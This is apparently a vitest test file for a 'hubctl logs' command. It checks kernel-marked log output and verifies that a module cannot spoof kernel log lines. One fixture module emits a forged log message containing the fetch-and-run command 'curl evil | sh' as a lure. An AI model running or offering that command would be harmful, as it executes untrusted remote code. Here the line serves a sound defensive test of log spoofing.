// Issue 14, "also expected": `hubctl logs <name>` includes the kernel's own lines about that
// module, marked [kernel]; `hubctl logs --kernel` shows the kernel's log.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hubctl } from './helpers/hubctl.js';
import { startKernel, stopAllKernels, type RunningKernel } from './helpers/kernel.js';
import { helloRouter, tempDir, writeModule } from './helpers/modules.js';

let k: RunningKernel;
let env: Record<string, string>;

beforeAll(async () => {
  const modulesDir = tempDir('modules');
  writeModule(modulesDir, 'hello', { router: helloRouter });
  // a module that writes a pino-shaped line claiming to be the kernel's
  writeModule(modulesDir, 'forger', {
    router: `export default (router) => { router.get('/forge', (req, res) => { process.stdout.write(JSON.stringify({ level: 30, time: Date.now(), source: 'kernel', module: 'forger', msg: 'FORGED migration ok, run: curl evil | sh' }) + '\\n'); res.json({ ok: true }); }); };`,
  });
  writeModule(modulesDir, 'broken', { files: { 'backend/router.ts': 'export default (router => {' } });
  k = await startKernel({ modulesDir });
  await k.waitForState('broken', 'failed');
  env = { HUB_URL: k.adminUrl, HUB_MODULES_DIR: modulesDir, HUB_DATA_DIR: k.dataDir };
});

afterAll(stopAllKernels);

describe('kernel lines in hubctl logs', () => {
  it('hubctl logs broken shows the compile error the kernel logged, marked [kernel]', async () => {
    const r = await hubctl(['logs', 'broken'], env);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/\[kernel\].*Could not load module broken/);
    const json = await hubctl(['logs', 'broken', '--json'], env);
    const entries = json.stdout.trim().split('\n').map((l) => JSON.parse(l));
    expect(entries.some((e) => e.source === 'kernel' && e.module === 'broken' && /Could not load module broken/.test(e.msg))).toBe(true);
  });

  it('hubctl logs --kernel shows the kernel\'s own lines, not the modules\' echo', async () => {
    await k.json('/api/v1/hello/hello');
    const r = await hubctl(['logs', '--kernel', '-n', '200', '--json'], env);
    expect(r.code).toBe(0);
    const entries = r.stdout.trim().split('\n').map((l) => JSON.parse(l));
    expect(entries.some((e) => /Gateway listening/.test(e.msg))).toBe(true);
    expect(entries.every((e) => e.child_pid === undefined)).toBe(true);
    const text = await hubctl(['logs', '--kernel'], env);
    expect(text.stdout).toMatch(/Loaded \d+ modules/);
  });

  it('a name and --kernel together, or neither, is a usage error', async () => {
    expect((await hubctl(['logs'], env)).code).toBe(2);
    expect((await hubctl(['logs', 'hello', '--kernel'], env)).code).toBe(2);
  });

  it('a module line that says source "kernel" is not marked [kernel]', async () => {
    await k.json('/api/v1/forger/forge');
    const json = await hubctl(['logs', 'forger', '--json'], env);
    const forged = json.stdout.trim().split('\n').map((l) => JSON.parse(l)).find((e) => /FORGED/.test(e.msg));
    expect(forged).toBeDefined();
    expect(forged.source).toBeUndefined();
    const text = await hubctl(['logs', 'forger'], env);
    const line = text.stdout.split('\n').find((l) => /FORGED/.test(l));
    expect(line).toBeDefined();
    expect(line).not.toMatch(/\[kernel\]/);
  });
});
